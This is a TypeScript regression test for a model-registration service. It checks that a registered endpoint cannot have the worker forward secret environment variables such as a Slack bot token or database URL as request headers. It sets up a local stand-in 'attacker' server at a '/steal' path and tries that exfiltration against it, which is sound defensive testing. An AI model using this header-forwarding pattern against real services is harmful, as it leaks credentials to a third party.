import { randomBytes } from 'node:crypto';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { endpointSecrets, loadConfig } from '../../src/config.ts';
import { createAdapter } from '../../src/endpoints/index.ts';
import { type Stack, startStack } from './stack.ts';

/**
 * Whoever may register a model chooses its URL and which environment variables go to it as headers:
 * without a list of allowed names, an API token was enough to have the worker send SLACK_BOT_TOKEN and
 * DATABASE_URL to a server of one's own.
 */
const WORKER_ENV = {
  SLACK_BOT_TOKEN: `xoxb-${randomBytes(8).toString('hex')}`,
  DATABASE_URL: `postgres://canary:${randomBytes(8).toString('hex')}@db/canary`,
  REDIS_URL: `redis://:${randomBytes(8).toString('hex')}@redis:6379`,
  MODEL_TOKEN: `model-${randomBytes(8).toString('hex')}`,
  UNLISTED_TOKEN: `unlisted-${randomBytes(8).toString('hex')}`,
};

let attacker: Server;
let attackerUrl: string;
const received: IncomingHttpHeaders[] = [];
let s: Stack;

beforeAll(async () => {
  attacker = createServer((req, res) => {
    received.push(req.headers);
    res.writeHead(200, { 'content-type': 'application/json' }).end('{"label":"ok"}');
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/steal`;
  s = await startStack({ endpointSecrets: ['MODEL_TOKEN', 'SLACK_BOT_TOKEN'], allowlist: ['127.0.0.1'] });
});
afterAll(async () => {
  await s?.close();
  await new Promise<void>((r) => attacker?.close(() => r()));
});

function register(headersFromEnv: Record<string, string>) {
  return s.call(
    'POST',
    '/api/v1/models',
    JSON.stringify({
      name: 'thief',
      version: randomBytes(4).toString('hex'),
      endpoint: { adapter: 'http', url: attackerUrl, headersFromEnv },
    }),
  );
}

describe('headersFromEnv over the REST API', () => {
  it("refuses Canary's own variables even when an operator listed them, writing nothing", async () => {
    const before = await s.counts();
    const res = await register({ 'X-A': 'SLACK_BOT_TOKEN', 'X-B': 'DATABASE_URL' });
    expect(res.status).toBe(400);
    expect(res.json).toMatchObject({
      error: {
        code: 'validation',
        field: 'endpoint.headersFromEnv',
        message: expect.stringMatching(/SLACK_BOT_TOKEN.*CANARY_ENDPOINT_SECRETS/),
      },
    });
    expect(await s.counts()).toEqual(before);
  });

  it.each(['DATABASE_URL', 'REDIS_URL', 'CANARY_API_TOKENS', 'QUICKCHART_URL'])(
    'refuses %s, which is not listed either',
    async (variable) => {
      const res = await register({ 'X-A': variable });
      expect(res.status).toBe(400);
      expect(res.json).toMatchObject({
        error: { code: 'validation', message: expect.stringContaining(variable) },
      });
    },
  );

  it('refuses a variable the operator did not list, naming it and the setting', async () => {
    const res = await register({ Authorization: 'UNLISTED_TOKEN' });
    expect(res.status).toBe(400);
    expect(res.json).toMatchObject({
      error: {
        code: 'validation',
        message: expect.stringMatching(/UNLISTED_TOKEN.*CANARY_ENDPOINT_SECRETS/),
      },
    });
  });

  it('accepts a listed variable', async () => {
    const res = await register({ Authorization: 'MODEL_TOKEN' });
    expect(res.status).toBe(201);
  });
});

describe('what the worker can send', () => {
  it('only listed, non-Canary variables reach a model server, whatever a stored endpoint names', async () => {
    const config = loadConfig({ CANARY_ENDPOINT_SECRETS: 'MODEL_TOKEN,SLACK_BOT_TOKEN,DATABASE_URL' });
    const secrets = endpointSecrets(WORKER_ENV, config.endpoints.secretNames);
    // As if stored before the registration check existed.
    for (const variable of ['SLACK_BOT_TOKEN', 'DATABASE_URL', 'REDIS_URL', 'UNLISTED_TOKEN']) {
      const adapter = createAdapter(
        {
          adapter: 'http',
          url: attackerUrl,
          options: { headersFromEnv: { 'X-Stolen': variable }, retries: 0, labelPath: 'label' },
        },
        { secrets, allowlist: ['127.0.0.1'] },
      );
      try {
        await adapter.predict(['hello']);
      } finally {
        await adapter.close();
      }
    }
    const listed = createAdapter(
      {
        adapter: 'http',
        url: attackerUrl,
        options: { headersFromEnv: { Authorization: 'MODEL_TOKEN' }, retries: 0, labelPath: 'label' },
      },
      { secrets, allowlist: ['127.0.0.1'] },
    );
    try {
      await listed.predict(['hello']);
    } finally {
      await listed.close();
    }
    const sent = JSON.stringify(received);
    for (const value of [WORKER_ENV.SLACK_BOT_TOKEN, WORKER_ENV.DATABASE_URL, WORKER_ENV.REDIS_URL]) {
      expect(sent).not.toContain(value);
    }
    expect(sent).not.toContain(WORKER_ENV.UNLISTED_TOKEN);
    expect(received.some((h) => h.authorization === WORKER_ENV.MODEL_TOKEN)).toBe(true);
  });
});
